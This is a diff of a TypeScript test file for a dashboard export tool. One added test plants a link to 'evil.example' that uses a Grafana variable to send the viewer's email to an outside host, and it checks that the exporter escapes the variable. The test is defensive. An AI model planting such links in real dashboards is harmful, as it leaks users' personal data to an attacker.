@@ -1,4 +1,10 @@
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import {
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
 import { join } from 'node:path';
 import { entity, estateRoute } from './testUtils/EstateRoute';
 import { commandLine } from './testUtils/commandLine';
@@ -96,7 +102,7 @@ describe('plumbline dashboards export', () => {
     writeFileSync(join(out, 'broken.json'), '{');
     serve([...estate].reverse().filter(one => one !== legacy));
     expect((await write()).stderr).toContain(
-      `2 dashboards in ${out}; 1 other removed, whose services are gone.`,
+      `2 dashboards in ${out}; 1 other removed that belong to no service now.`,
     );
     expect(readdirSync(out).sort()).toEqual([
       ...['broken.json', 'default.checkout.json', 'mine.json'],
@@ -107,6 +113,39 @@ describe('plumbline dashboards export', () => {
     expect(String(after)).toBe(
       String(before).replaceAll('checkout-svc', 'checkout-svc|orders'),
     );
+  });
+
+  it('gives no two of them one title, and no variable to Grafana', async () => {
+    const twin = (ref: string) => {
+      const found = entity(ref);
+      Object.assign(found.metadata, {
+        title: 'Payments',
+        links: [{ url: 'https://evil.example/?u=${__user.email}' }],
+      });
+      return found;
+    };
+    serve([twin('Component:default/pay-a'), twin('Component:shop/pay-b')]);
+    await write();
+    const found = read('default.pay-a.json');
+    expect([found.title, read('shop.pay-b.json').title]).toEqual([
+      ...['Payments pay-a', 'Payments shop/pay-b'],
+    ]);
+    expect(found.links.at(-1)!.url).toBe(
+      'https://evil.example/?u=%24{__user.email}',
+    );
+  });
+
+  it('removes no folder of the same name', async () => {
+    const folder = join(out, 'default.legacy.json');
+    rmSync(folder, { force: true });
+    mkdirSync(folder, { recursive: true });
+    writeFileSync(join(folder, 'mine'), 'x');
+    expect(await write()).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('EISDIR'),
+    });
+    expect(readFileSync(join(folder, 'mine'), 'utf8')).toBe('x');
+    rmSync(folder, { recursive: true });
   });
 
   it('takes other labels of alerts', async () => {
